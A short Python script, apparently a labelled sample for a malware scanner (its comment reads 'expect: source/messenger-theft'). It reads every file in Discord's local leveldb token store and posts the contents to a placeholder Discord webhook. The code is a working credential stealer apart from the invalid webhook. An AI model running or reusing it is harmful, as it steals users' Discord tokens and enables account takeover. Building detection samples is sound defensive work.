import os
import requests

base = os.getenv("APPDATA") + "\\discord\\Local Storage\\leveldb"
found = []
for name in os.listdir(base):
    found.append(open(base + "\\" + name, errors="ignore").read())
requests.post("https://discord.com/api/webhooks/000000000000/example-invalid", json={"content": "".join(found)})  # expect: source/messenger-theft import conclusive
